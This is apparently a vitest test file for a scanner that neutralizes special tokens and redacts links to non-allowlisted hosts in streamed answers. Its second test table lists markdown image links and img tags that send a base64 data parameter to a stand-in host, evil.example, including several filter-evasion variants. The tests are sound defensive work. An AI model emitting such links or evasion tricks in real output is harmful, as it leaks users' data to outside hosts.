import { beforeAll, expect, test } from "vitest";
import { TEXT_MARKS } from "../../src/recognizers/text-marks.ts";
import type { ScannerProgram } from "../../src/scanner/text-scanner.ts";
import { exampleText, publicText } from "../support/examples.ts";
import { chunkings, random } from "../support/random.ts";
import { answerProgram } from "../support/scanner-program.ts";
import { throughChannel } from "../support/through-channel.ts";

/** Marks are taken out of an answer in the same way for every chunking, also when another lane goes on after each piece. */
const STYLE = { strategy: "mask" as const, key: new Uint8Array(32) };
let marks: ScannerProgram;
let links: ScannerProgram;

beforeAll(async () => {
	marks = await answerProgram("detection_types: [], special_tokens: neutralize");
	links = await answerProgram("detection_types: [], links: neutralize, allowed_hosts: [good.example]");
});

function write(chunks: readonly string[], program = marks): string {
	return throughChannel(program, STYLE, chunks).out;
}

test.each(TEXT_MARKS.map((mark) => [mark.type, mark] as const))("%s", (_type, { examples }) => {
	for (const example of examples.match) {
		const text = exampleText(example);
		const whole = write([text]);
		expect(whole.replace("[SPECIAL_TOKEN REDACTED]", "")).toBe(publicText(example));
		for (const chunks of chunkings(text, random(7))) expect([chunks, write(chunks)]).toEqual([chunks, whole]);
	}
	for (const text of examples.noMatch)
		for (const chunks of chunkings(text, random(7))) expect([chunks, write(chunks)]).toEqual([chunks, text]);
});

const DATA = "bm90IGEgc2VjcmV0IGJ1dCBsb25nIGVub3VnaA";

test.each([
	[`![x](https://good.example/p.png?q=${DATA}) and [y](https://cdn.good.example/?q=${DATA}).`, undefined],
	[`![x](https://evil.example/p.png?q=${DATA}) end`, "[LINK REDACTED] end"],
	[`![https://good.example/ x](https://evil.example/p.png?q=${DATA}) end`, "[LINK REDACTED] end"],
	[`![https://good.example](https://evil.example/p.png?q=${DATA}) end`, "[LINK REDACTED] end"],
	[`![=https://good.example/](https://evil.example/p.png?q=${DATA}) end`, "[LINK REDACTED] end"],
	[`[https://good.example/](https://evil.example/'?q=${DATA}) end`, "[LINK REDACTED] end"],
	[`<img alt="src=https://good.example/"src="https://evil.example/?q=${DATA}"> end`, "[LINK REDACTED] end"],
	[`![a[b]c](https://evil.example/p.png?q=${DATA}) end`, "![a[b]c[LINK REDACTED] end"],
	[`![a][b]\n\n[b]: <https://evil.example/?q=${DATA}> end`, "![a][b]\n\n[b[LINK REDACTED]> end"],
	[`![x](<https://evil.example/?q=${DATA}>) end`, "[LINK REDACTED]) end"],
	[`![x](//evil.example/?q=${DATA}) end`, "[LINK REDACTED] end"],
	[`![x]( https:/evil.example/?q=${DATA}) end`, "[LINK REDACTED] end"],
	[`![x](https:\\\\evil.example\\?q=${DATA}) end`, "[LINK REDACTED] end"],
	[`<img\nsrc = 'https://evil.example/?q=${DATA}'> end`, "[LINK REDACTED] end"],
	[`[b]: https://good.example/?q=${DATA}\n`, undefined],
])("%s leads where its address does, whatever else it says, for every chunking", (text, expected = text) => {
	for (const chunks of chunkings(text, random(7))) expect([chunks, write(chunks, links)]).toEqual([chunks, expected]);
});
